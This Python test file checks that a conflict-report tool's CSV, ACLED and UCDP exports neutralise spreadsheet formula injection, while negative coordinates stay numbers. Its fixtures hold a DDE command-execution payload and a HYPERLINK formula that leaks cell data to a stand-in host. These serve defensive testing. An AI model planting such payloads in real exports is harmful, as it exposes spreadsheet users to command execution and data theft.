"""Spreadsheet formula injection end to end: reports whose id, source, speaker and title are
formulas are ingested (real extraction and linking), exported as CSV, ACLED and UCDP from the
command line and over HTTP, and the files read back: no text cell starts a formula, each such
cell is the given text behind one ``'``, and numbers (a negative longitude) stay numbers."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from khronika import export
from khronika.cli import main
from khronika.places import Gazetteer
from khronika.serving import app as app_module

REPORT_ID = "=cmd|' /C calc'!A0"
SOURCE = "@SUM(1+1)*cmd|' /C calc'!A0"
TITLE = '=HYPERLINK("http://x.example/?leak="&A1,"open")'
REPORTS = [
    {
        "id": REPORT_ID,
        "source": SOURCE,
        "title": TITLE,
        "published": "2025-03-04T09:00:00+02:00",
        "text": "A Russian missile strike on Kharkiv killed three civilians and injured "
        "eleven on Tuesday, the regional governor said.",
    },
    {
        "id": "-2+3",
        "source": "+Telegram",
        "published": "2025-03-05T10:00:00+02:00",
        "text": "Shelling of Kherson killed two people on Wednesday, the city council said.",
    },
]


@pytest.fixture(scope="module")
def formula_db(tmp_path_factory: pytest.TempPathFactory, gaz: Gazetteer) -> Path:
    folder = tmp_path_factory.mktemp("formulas")
    reports = folder / "reports.jsonl"
    reports.write_text("".join(json.dumps(r) + "\n" for r in REPORTS), encoding="utf-8")
    db = folder / "k.db"
    assert main(["ingest", "--db", str(db), str(reports)]) == 0
    return db


def read_back(text: str) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows, text
    return rows


def check_neutralised(rows: list[dict[str, str]]) -> set[str]:
    """Fail on any cell a spreadsheet would run; the cells that were neutralised."""
    neutralised = set()
    for row in rows:
        for column, cell in row.items():
            if cell.startswith(export.FORMULA_STARTS):
                float(cell)  # only a number may start so (a negative coordinate)
            elif cell.startswith("'"):
                neutralised.add(cell)
            assert "\r" not in cell, column
    return neutralised


def exported(db: Path, fmt: str, tmp_path: Path) -> str:
    out = tmp_path / f"events-{fmt}.csv"
    assert main(["events", "--db", str(db), "--format", fmt, "--output", str(out)]) == 0
    return out.read_text(encoding="utf-8")


@pytest.mark.parametrize("fmt", export.CSV_FORMATS)
def test_command_line_exports_neutralise_formulas(
    formula_db: Path, fmt: str, tmp_path: Path
) -> None:
    rows = read_back(exported(formula_db, fmt, tmp_path))
    neutralised = check_neutralised(rows)
    id_cells = {"csv": "report_ids", "acled": "source", "ucdp": "source_office"}
    assert any(
        cell.startswith("'") and (REPORT_ID in cell or SOURCE in cell)
        for row in rows
        for cell in [row[id_cells[fmt]]]
    ), [row[id_cells[fmt]] for row in rows]
    assert neutralised, rows
    assert all(cell[1:] and not cell[1:].startswith("'") for cell in neutralised)  # one quote


def test_the_exact_text_is_kept_behind_the_quote(formula_db: Path, tmp_path: Path) -> None:
    rows = read_back(exported(formula_db, "csv", tmp_path))
    report_ids = {row["report_ids"] for row in rows}
    assert "'" + REPORT_ID in report_ids and "'-2+3" in report_ids
    ucdp = read_back(exported(formula_db, "ucdp", tmp_path))
    assert "'" + TITLE in {row["source_headline"] for row in ucdp}


@pytest.mark.parametrize("fmt", export.CSV_FORMATS)
def test_http_exports_neutralise_formulas(formula_db: Path, fmt: str) -> None:
    with TestClient(app_module.create_app(formula_db)) as client:
        whole = client.get("/api/export", params={"format": fmt})
        assert whole.status_code == 200
        neutralised = check_neutralised(read_back(whole.text))
        assert neutralised
        if fmt != "ucdp":  # /api/events pages in CSV and ACLED form too
            page = client.get("/api/events", params={"format": fmt})
            assert page.status_code == 200
            assert check_neutralised(read_back(page.text)) == neutralised


def test_negative_coordinates_stay_numbers() -> None:
    event = {
        "id": "-e1",
        "event_date": "2025-03-04",
        "location": {"name": "-Bay", "latitude": -33.9, "longitude": -70.5},
        "sources": [{"outlet": "=x"}],
        "report_ids": ["r1"],
    }
    for fmt in export.CSV_FORMATS:
        out = io.StringIO()
        export.write([event], fmt, out)
        [row] = read_back(out.getvalue())
        assert row["latitude"] == "-33.9" and row["longitude"] == "-70.5", fmt
        assert "'-Bay" in row.values() and "'-e1" in row.values(), fmt
